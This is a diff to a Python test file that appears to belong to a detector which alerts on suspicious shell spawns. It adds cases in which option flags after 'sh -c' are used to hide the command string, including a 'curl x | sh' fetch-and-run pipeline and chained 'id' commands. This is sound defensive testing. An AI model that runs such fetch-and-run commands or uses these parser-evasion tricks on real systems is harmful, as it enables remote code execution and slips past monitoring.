@@ -156,6 +156,10 @@ def test_shells_that_are_not_a_programs_helper_still_alert() -> None:
         "script": [git, ex(15, 10, "/bin/sh", ["sh", "/tmp/x.sh"])],
         "builtin": [git, ex(16, 10, "/bin/sh", ["sh", "-c", ". /tmp/x.sh"])],
         "env": [git, ex(17, 10, "/bin/sh", ["sh", "-c", "BASH_ENV=/tmp/x gzip"])],
+        # after -c dash still takes options: the command string is the word after them
+        "dashdash": [git, ex(18, 10, "/bin/sh", ["sh", "-c", "--", "curl x | sh"])],
+        "option": [git, ex(19, 10, "/bin/sh", ["sh", "-c", "-e", "id; id"])],
+        "plus-option": [git, ex(19, 10, "/bin/sh", ["sh", "-c", "+e", "id; id"])],
     }
     for name, evs in cases.items():
         got = keys(ch, ctx, evs)
